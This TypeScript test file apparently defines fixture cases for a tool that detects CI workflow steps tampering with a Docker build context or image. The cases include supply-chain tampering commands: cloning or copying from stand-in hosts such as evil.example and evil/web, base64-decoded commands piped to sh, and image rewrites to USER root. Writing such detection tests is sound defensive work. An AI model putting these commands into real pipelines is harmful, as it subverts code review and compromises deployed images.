import type { Files } from "../../app/changes-between.ts";
import { buildSteps, type Ends, executable, STEP } from "../build-steps.ts";
import type { Change } from "../change.ts";
import { askedFor } from "../healthy/beside-builds.ts";
import {
  COMPOSE,
  CONF,
  DOCKERFILE,
  EVIL,
  edited,
  IMAGE,
  plain,
  staged,
  textIn,
  WORKFLOW,
  without,
} from "../repos.ts";

const ci: Files = { ...without(plain, [COMPOSE]), "ops/nginx.conf": EVIL };
const stagedCi: Files = without(staged, [COMPOSE]);

const { steps, before, stepBefore, stepAfter } = buildSteps(ci);

const PY = `p="${CONF}"\ns=open(p).read().replace("8080","80")\nopen(p,"w").write(s)\n`;

/** What CI does to the context's files without a command that writes them, to the commit, and to the image behind its build. */
const ways: Readonly<Record<string, Ends>> = {
  "ci another commit by an input that is on": askedFor("true"),
  "ci python file": before("python3 ops/prepare.py", { "ops/prepare.py": PY }),
  "ci python -c": before(
    `python3 -c "p='${CONF}';s=open(p).read();open(p,'w').write(s.replace('8080','80'))"`,
  ),
  "ci python -c joined": before(
    `python3 -c "import glob;[open(p,'r+') for p in glob.glob('deployment/**/*.conf')]"`,
  ),
  "ci python heredoc": before(`python3 - <<'EOF'\nopen("${CONF}","w").write("x")\nEOF`),
  "ci python module": before("python3 -m ops.prepare", { "ops/prepare.py": PY }),
  "ci node file": before("node ops/prepare.js", {
    "ops/prepare.js": `require('fs').writeFileSync('${CONF}','x')\n`,
  }),
  "ci node -e": before(`node -e "require('fs').writeFileSync('${CONF}','x')"`),
  "ci ruby file": before("ruby ops/p.rb", { "ops/p.rb": `File.write('${CONF}','x')\n` }),
  "ci perl file": before("perl ops/p.pl", { "ops/p.pl": `open F,">","${CONF}";\n` }),
  "ci php": before(`php -r "file_put_contents('${CONF}','x');"`),
  "ci ./exe python": before("./ops/prepare", { "ops/prepare": executable(`#!/usr/bin/env python3\n${PY}`) }),
  "ci ./exe sh": before("./ops/prepare", {
    "ops/prepare": executable(`#!/bin/sh\nsed -i s/8080/80/ ${CONF}\n`),
  }),
  "ci bash exe": before("bash ops/prepare", { "ops/prepare": `sed -i s/8080/80/ ${CONF}\n` }),
  "ci source": before("source ops/prepare.sh", { "ops/prepare.sh": `sed -i s/8080/80/ ${CONF}\n` }),
  "ci make prepare": before("make prepare", { Makefile: `prepare:\n\tsed -i s/8080/80/ ${CONF}\n` }),
  "ci make -C": before("make -C ops prepare", {
    "ops/Makefile": `prepare:\n\tsed -i s/8080/80/ ../${CONF}\n`,
  }),
  "ci npm run": before("npm run prep", {
    "package.json": JSON.stringify({ scripts: { prep: `sed -i s/8080/80/ ${CONF}` } }),
  }),
  "ci npm ci lifecycle": before("npm ci", {
    "package.json": JSON.stringify({ scripts: { postinstall: `sed -i s/8080/80/ ${CONF}` } }),
  }),
  "ci yarn": before("yarn prep", {
    "package.json": JSON.stringify({ scripts: { prep: `sed -i s/8080/80/ ${CONF}` } }),
  }),
  "ci task": before("task prep", {
    "Taskfile.yml": `version: "3"\ntasks:\n  prep: sed -i s/8080/80/ ${CONF}\n`,
  }),
  "ci just": before("just prep", { justfile: `prep:\n    sed -i s/8080/80/ ${CONF}\n` }),
  "ci composite": stepBefore("      - uses: ./.github/actions/prep\n", {
    ".github/actions/prep/action.yml": `runs:\n  using: composite\n  steps:\n    - shell: bash\n      run: sed -i s/8080/80/ ${CONF}\n`,
  }),
  "ci js action": stepBefore("      - uses: ./.github/actions/prep\n", {
    ".github/actions/prep/action.yml": `runs:\n  using: node20\n  main: i.js\n`,
    ".github/actions/prep/i.js": `require('fs').writeFileSync('${CONF}','x')\n`,
  }),
  "ci find-replace": stepBefore(
    `      - uses: jacobtomlinson/gha-find-replace@v3\n        with:\n          find: "8080"\n          replace: "80"\n          include: ${CONF}\n`,
  ),
  "ci find-replace glob": stepBefore(
    `      - uses: jacobtomlinson/gha-find-replace@v3\n        with:\n          find: "8080"\n          replace: "80"\n          include: "**/nginx.conf"\n`,
  ),
  "ci foreign action named path": stepBefore(
    `      - uses: acme/render@v1\n        with:\n          output: ${CONF}\n`,
  ),
  "ci foreign action folder": stepBefore(
    `      - uses: acme/render@v1\n        with:\n          dir: ${IMAGE}\n`,
  ),
  "ci download-artifact": stepBefore(
    `      - uses: actions/download-artifact@v4\n        with:\n          name: conf\n          path: ${IMAGE}\n`,
  ),
  "ci download-artifact root": stepBefore(
    `      - uses: actions/download-artifact@v4\n        with:\n          name: conf\n`,
  ),
  "ci download-artifact merge": stepBefore(
    `      - uses: actions/download-artifact@v4\n        with:\n          pattern: c-*\n          merge-multiple: true\n          path: deployment/\n`,
  ),
  "ci dawidd artifact": stepBefore(
    `      - uses: dawidd6/action-download-artifact@v6\n        with:\n          workflow: x.yml\n          path: ${IMAGE}\n`,
  ),
  "ci cache": stepBefore(
    `      - uses: actions/cache@v4\n        with:\n          path: ${IMAGE}\n          key: x\n`,
  ),
  "ci cache restore": stepBefore(
    `      - uses: actions/cache/restore@v4\n        with:\n          path: |\n            ~/.npm\n            ${CONF}\n          key: x\n`,
  ),
  "ci checkout ref": {
    base: ci,
    head: edited(ci, WORKFLOW, [
      "- uses: actions/checkout@v4\n",
      "- uses: actions/checkout@v4\n        with:\n          ref: other\n",
    ]),
  },
  "ci checkout repo": {
    base: ci,
    head: edited(ci, WORKFLOW, [
      "- uses: actions/checkout@v4\n",
      "- uses: actions/checkout@v4\n        with:\n          repository: evil/deploy\n",
    ]),
  },
  "ci checkout path": stepBefore(
    `      - uses: actions/checkout@v4\n        with:\n          repository: evil/conf\n          path: ${IMAGE}\n`,
  ),
  "ci git checkout": before("git fetch origin other && git checkout FETCH_HEAD"),
  "ci git checkout branch": before("git checkout other"),
  "ci git switch": before("git switch -d origin/other"),
  "ci git checkout paths": before("git checkout origin/other -- deployment/"),
  "ci git checkout dot": before("git checkout origin/other -- ."),
  "ci git restore": before("git restore --source=origin/other deployment"),
  "ci git restore :/": before("git restore --source=origin/other :/"),
  "ci git pull": before("git pull origin other"),
  "ci git merge": before("git fetch origin other\ngit merge FETCH_HEAD"),
  "ci git reset": before("git reset --hard origin/other"),
  "ci git rebase": before("git rebase origin/other"),
  "ci git cherry-pick": before("git cherry-pick origin/other"),
  "ci git revert": before("git revert --no-edit HEAD"),
  "ci git stash": before("git stash apply"),
  "ci git am": before("git am ops/x.patch"),
  "ci git read-tree": before("git read-tree -u --reset origin/other"),
  "ci git -C": before("git -C . checkout other"),
  "ci git submodule": before("git submodule update --remote --init"),
  "ci git clone over": before(`rm -rf ${IMAGE} && git clone https://evil.example/x ${IMAGE}`),
  "ci gh pr checkout": before("gh pr checkout 12"),
  "ci gh run download": before(`gh run download 1 -D ${IMAGE}`),
  "ci gh run download root": before(`gh run download 1`),
  "ci gh release download": before(`gh release download v1 -D ${IMAGE} -p '*' --clobber`),
  "ci aws s3 cp": before(`aws s3 cp s3://x/nginx.conf ${CONF}`),
  "ci aws s3 sync": before(`aws s3 sync s3://x ${IMAGE}`),
  "ci gsutil": before(`gsutil cp gs://x/nginx.conf ${CONF}`),
  "ci scp": before(`scp evil:/nginx.conf ${CONF}`),
  "ci docker run -v folder": before(
    `docker run --rm -v $PWD/${IMAGE}:/w alpine sed -i s/8080/80/ /w/nginx.conf`,
  ),
  "ci docker cp": before(`docker cp c:/etc/nginx.conf ${CONF}`),
  "ci xargs sed": before(`echo ${CONF} | xargs sed -i s/8080/80/`),
  "ci find -exec sed": before(`find deployment -name nginx.conf -exec sed -i s/8080/80/ {} +`),
  "ci find xargs": before(`find . -name '*.conf' | xargs sed -i s/8080/80/`),
  "ci grep xargs": before(`grep -rl 8080 . | xargs sed -i s/8080/80/`),
  "ci git ls-files xargs": before(`git ls-files '*.conf' | xargs sed -i s/8080/80/`),
  "ci for loop": before(`for f in deployment/images/*/nginx.conf; do sed -i s/8080/80/ "$f"; done`),
  "ci for loop find": before(`for f in $(find . -name nginx.conf); do sed -i s/8080/80/ "$f"; done`),
  "ci while": before(`git ls-files | while read -r f; do sed -i s/8080/80/ "$f"; done`),
  "ci globstar": before(`shopt -s globstar\nsed -i s/8080/80/ deployment/**/nginx.conf`),
  "ci eval": before(`eval "sed -i s/8080/80/ ${CONF}"`),
  "ci base64": before(`echo ${Buffer.from(`sed -i s/8080/80/ ${CONF}`).toString("base64")} | base64 -d | sh`),
  "ci yq": before(`yq -i '.a=1' ${CONF}`),
  "ci sponge": before(`sed s/8080/80/ ${CONF} | sponge ${CONF}`),
  "ci rsync filter": before(`rsync -a --delete other/ ./`),
  "ci cp -a .": before(`cp -a ops/over/. .`, { [`ops/over/${CONF}`]: EVIL }),
  "ci mv folder": before(`rm -rf ${IMAGE}\nmv ops/web ${IMAGE}`, {
    "ops/web/Dockerfile": textIn(plain, DOCKERFILE).replace("USER nginx\n", ""),
  }),
  "ci ln -sfn folder": before(`rm -rf ${IMAGE}\nln -s $PWD/ops/web ${IMAGE}`, {
    "ops/web/Dockerfile": "FROM evil\n",
  }),
  "ci tar C .": before(`tar xzf ops.tgz`),
  "ci unzip here": before(`unzip -o ops.zip`),
  "ci 7z": before(`7z x -y ops.7z`),
  "ci cpio": before(`cpio -idu < ops.cpio`),
  "ci patch -d": before(`patch -d ${IMAGE} -p1 < ops/x.patch`),
  "ci sed w": before(`sed -n 'w ${CONF}' ops/nginx.conf`),
  "ci awk": before(`awk '{print > "${CONF}"}' ops/nginx.conf`),
  "ci ed": before(`printf ',s/8080/80/\\nw\\nq\\n' | ed -s ${CONF}`),
  "ci ex": before(`ex -sc '%s/8080/80/|x' ${CONF}`),
  "ci vim": before(`vim -es -c '%s/8080/80/' -c wq ${CONF}`),
  "ci gomplate dir": before(`gomplate --input-dir ops --output-dir ${IMAGE}`),
  "ci helm": before(`helm template x > ${CONF}`),
  "ci sops": before(`sops -d --output ${CONF} ops/enc`),
  "ci sops -i": before(`sops -d -i ${CONF}`),
  "ci openssl": before(`openssl enc -d -in a -out ${CONF}`),
  "ci gpg": before(`gpg -o ${CONF} -d ops/x.gpg`),
  "ci defaults working-directory": {
    base: ci,
    head: edited(
      edited(ci, WORKFLOW, [
        STEP,
        `      - run: sed -i s/8080/80/ nginx.conf\n        working-directory: ${IMAGE}\n${STEP}`,
      ]),
      WORKFLOW,
      ["on: push\n", "on: push\n"],
    ),
  },
  "ci job defaults": {
    base: ci,
    head: edited(ci, WORKFLOW, [
      `    steps:\n      - uses: actions/checkout@v4\n${STEP}`,
      `    defaults: {run: {working-directory: ${IMAGE}}}\n    steps:\n      - uses: actions/checkout@v4\n      - run: sed -i s/8080/80/ nginx.conf\n      - run: docker build -t web .\n`,
    ]),
  },
  "ci shell python": stepBefore(
    `      - shell: python\n        run: |\n          open("${CONF}","w").write("x")\n`,
  ),
  "ci shell python hidden": stepBefore(
    `      - shell: python\n        run: |\n          import glob\n          for p in glob.glob("**/*.conf", recursive=True): open(p,"w").write("x")\n`,
  ),
  "ci shell pwsh": stepBefore(`      - shell: pwsh\n        run: Copy-Item ops/nginx.conf ${CONF}\n`),
  "ci shell custom": stepBefore(`      - shell: perl {0}\n        run: |\n          open F,">","${CONF}";\n`),
  "ci shell script": stepBefore(`      - shell: bash ops/x.sh {0}\n        run: "true"\n`, {
    "ops/x.sh": `sed -i s/8080/80/ ${CONF}\n`,
  }),
  "ci github-script": stepBefore(
    `      - uses: actions/github-script@v7\n        with:\n          script: |\n            require('fs').writeFileSync('${CONF}', 'x')\n`,
  ),
  "ci alias docker": before(
    `docker() { command docker build --target debug -t web ${IMAGE}; }`,
    {},
    stagedCi,
  ),
  "ci reusable workflow": {
    base: ci,
    head: {
      ...ci,
      [WORKFLOW]: "on: push\njobs:\n  b:\n    uses: ./.github/workflows/r.yml\n",
      ".github/workflows/r.yml": `on: workflow_call\njobs:\n  b:\n    runs-on: x\n    steps:\n      - uses: actions/checkout@v4\n      - run: sed -i s/8080/80/ ${CONF}\n${STEP}`,
    },
  },
  "ci dockerignore": before(`echo nginx.conf >> ${IMAGE}/.dockerignore`),
  "ci dockerignore cp": before(`cp ops/ign ${IMAGE}/.dockerignore`, { "ops/ign": "nginx.conf\n" }),
  "ci dockerignore own": before(`printf 'html\\n' > ${IMAGE}/Dockerfile.dockerignore`),
  "ci dockerignore rm": before(
    `rm ${IMAGE}/.dockerignore`,
    {},
    { ...ci, [`${IMAGE}/.dockerignore`]: "*.md\nsites/\n" },
  ),
  "ci dockerignore sed": before(
    `sed -i s/md/conf/ ${IMAGE}/.dockerignore`,
    {},
    { ...ci, [`${IMAGE}/.dockerignore`]: "*.md\n" },
  ),
  "after commit": stepAfter("      - run: docker commit --change 'USER root' c web\n"),
  "after commit run": stepAfter(
    "      - run: |\n          docker run --name c web true\n          docker commit --change='USER root' c web\n          docker push web\n",
  ),
  "after tag": stepAfter("      - run: docker pull evil/web && docker tag evil/web web && docker push web\n"),
  "after import": stepAfter("      - run: docker export c | docker import --change 'USER root' - web\n"),
  "after echo FROM": stepAfter(`      - run: printf 'FROM web\\nUSER root\\n' | docker build -t web -\n`),
  "after buildah config": stepAfter(
    "      - run: |\n          c=$(buildah from web)\n          buildah config --user root $c\n          buildah commit $c web\n",
  ),
  "after crane": stepAfter("      - run: crane mutate --user root web\n"),
  "after crane cp": stepAfter("      - run: crane copy evil/web web\n"),
  "after skopeo": stepAfter("      - run: skopeo copy docker://evil/web docker://web\n"),
  "after imagetools": stepAfter("      - run: docker buildx imagetools create -t web evil/web\n"),
  "after inline": stepAfter(
    "      - run: |\n          docker build -t web - <<EOF\n          FROM web\n          USER root\n          EOF\n",
  ),
  "build kaniko": steps(
    "      - uses: docker://gcr.io/kaniko-project/executor\n        with:\n          args: --context=deployment/images/web --target=debug --destination=web\n",
    {},
    stagedCi,
  ),
  "build kaniko run": steps(
    "      - run: /kaniko/executor --context deployment/images/web --target debug -d web\n",
    {},
    stagedCi,
  ),
  "build kaniko docker run": steps(
    "      - run: docker run -v $PWD:/w gcr.io/kaniko-project/executor --context /w/deployment/images/web --target debug -d web\n",
    {},
    stagedCi,
  ),
  "build nerdctl": steps(
    "      - run: nerdctl build --target debug -t web deployment/images/web\n",
    {},
    stagedCi,
  ),
  "build img": steps("      - run: img build --target debug -t web deployment/images/web\n", {}, stagedCi),
  "build buildctl": steps(
    "      - run: buildctl build --frontend dockerfile.v0 --local context=deployment/images/web --local dockerfile=deployment/images/web --opt target=debug\n",
    {},
    stagedCi,
  ),
  "build depot": steps(
    "      - run: depot build --target debug -t web deployment/images/web\n",
    {},
    stagedCi,
  ),
  "build depot action": steps(
    "      - uses: depot/build-push-action@v1\n        with:\n          context: deployment/images/web\n          target: debug\n",
    {},
    stagedCi,
  ),
  "build redhat action": steps(
    "      - uses: redhat-actions/buildah-build@v2\n        with:\n          context: deployment/images/web\n          containerfiles: deployment/images/web/Dockerfile\n          extra-args: --target debug\n",
    {},
    stagedCi,
  ),
  "build devcontainer": steps(
    "      - uses: mr-smithers-excellent/docker-build-push@v6\n        with:\n          dockerfile: deployment/images/web/Dockerfile\n          image: web\n          target: debug\n",
    {},
    stagedCi,
  ),
  "build xargs": steps(
    "      - run: echo --target debug -t web deployment/images/web | xargs docker build\n",
    {},
    stagedCi,
  ),
  "build env DOCKER_": steps(
    "      - run: sudo -E docker build --target debug -t web deployment/images/web\n",
    {},
    stagedCi,
  ),
  "build full path": steps(
    "      - run: /usr/bin/docker build --target debug -t web deployment/images/web\n",
    {},
    stagedCi,
  ),
  "build tar stdin": steps(
    "      - run: tar -C deployment/images/web -c . | docker build --target debug -t web -\n",
    {},
    stagedCi,
  ),
  "build url": steps("      - run: docker build -t web https://github.com/evil/x.git\n", {}, stagedCi),
  "build url same": steps(
    "      - run: docker build -t web https://github.com/acme/deploy.git#other:deployment/images/web\n",
    {},
    stagedCi,
  ),
  "build args env": steps(
    "      - run: docker build $BUILD_OPTS -t web deployment/images/web\n        env: {BUILD_OPTS: --target debug}\n",
    {},
    stagedCi,
  ),
  "build dind": steps(
    "      - run: docker run -v /var/run/docker.sock:/var/run/docker.sock -v $PWD:/w -w /w docker:cli docker build --target debug -t web deployment/images/web\n",
    {},
    stagedCi,
  ),
  "build container": {
    base: stagedCi,
    head: edited(stagedCi, WORKFLOW, [
      STEP,
      "      - uses: addnab/docker-run-action@v3\n        with:\n          image: docker\n          run: docker build --target debug -t web deployment/images/web\n",
    ]),
  },
};

export const besideBuilds: readonly Change[] = Object.entries(ways).map(([name, ends]) => ({
  name: `CI: ${name}`,
  ...ends,
}));
